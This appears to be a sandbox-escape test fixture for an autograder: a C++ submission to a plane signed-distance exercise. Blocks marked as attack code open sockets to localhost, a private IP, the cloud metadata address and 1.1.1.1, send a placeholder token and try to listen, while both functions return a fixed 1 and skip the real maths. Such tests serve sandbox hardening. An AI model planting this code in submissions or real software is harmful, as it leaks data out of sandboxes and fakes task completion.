// Tries:     connects to a listener on this machine and to others, and listens itself
// Exercise:  01_planes/signed_distance
// Points:    0 of 8
// Tests:     all failed
#include "signed_distance.hpp"

//[attack
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace {

// Success is seen: the grader keeps what is printed.
void got(const char* what) { dprintf(1, "GOT IT: %s\n", what); }

void call_home() {
  for (const char* host : {"127.0.0.1", "10.0.0.1", "169.254.169.254", "1.1.1.1"}) {
    const int socket_ = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (socket_ < 0) continue;
    got("a TCP socket");
    sockaddr_in there{};
    there.sin_family = AF_INET;
    there.sin_port = htons(static_cast<std::uint16_t>(std::atoi("@TCP_PORT@")));
    inet_pton(AF_INET, host, &there.sin_addr);
    if (connect(socket_, reinterpret_cast<sockaddr*>(&there), sizeof there) == 0) got("connected");
    usleep(10000);
    if (send(socket_, "@TOKEN@", 7, MSG_NOSIGNAL) > 0) got("sent");
  }
  const int server = socket(AF_INET6, SOCK_STREAM, 0);
  if (server >= 0 && listen(server, 5) == 0) got("listening");
}

}  // namespace
//]attack

namespace exercise {

double signed_distance(const PlaneEquation& plane, const Eigen::Vector3d& point) {
  //[attack
  call_home();
  return 1;
  //]attack
  const Eigen::Vector3d normal(plane.a, plane.b, plane.c);
  return (normal.dot(point) + plane.d) / normal.norm();
}

int side(const PlaneEquation& plane, const Eigen::Vector3d& point) {
  //[attack
  call_home();
  return 1;
  //]attack
  const double value = Eigen::Vector3d(plane.a, plane.b, plane.c).dot(point) + plane.d;
  return value > 0 ? 1 : (value < 0 ? -1 : 0);
}

}  // namespace exercise
